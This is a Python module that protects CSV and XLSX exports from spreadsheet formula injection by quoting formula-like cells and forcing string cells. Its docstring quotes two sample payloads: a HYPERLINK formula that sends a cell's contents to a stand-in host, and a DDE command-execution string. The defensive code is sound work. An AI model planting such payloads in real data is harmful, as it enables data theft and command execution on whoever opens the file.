"""Writing tables for spreadsheets: the one place CSV and XLSX cells are made safe.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: an item named `=HYPERLINK("http://evil/?"&A1)` or
`-2+3+cmd|' /C calc'!A0` in the catalog would run when the back office opens the export.
So every export goes through here:

- CSV (`csv_writer`): such a cell gets the OWASP prefix, a single quote, which spreadsheets
  show as text. A plain number (`-12.50`, `+3`, `-5%`) is left alone: it cannot be a formula
  and a refund's negative amount must stay a number. `unescape_csv_cell` undoes the prefix
  on import, so a catalog exported and imported again is unchanged.
- XLSX (`xlsx_append`): such a string is stored as a string cell, never a formula.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*%?")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell that no spreadsheet runs as a formula."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def unescape_csv_cell(text: str) -> str:
    """The cell as it was before csv_cell: the import side of the OWASP prefix."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    def __init__(self, fh):
        self._w = csv.writer(fh)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh) -> _SafeWriter:
    """csv.writer for exports: every cell goes through csv_cell."""
    return _SafeWriter(fh)


def xlsx_append(ws, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet; a string is always a string cell (openpyxl
    makes any string that starts with `=` a formula)."""
    ws.append(list(row))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
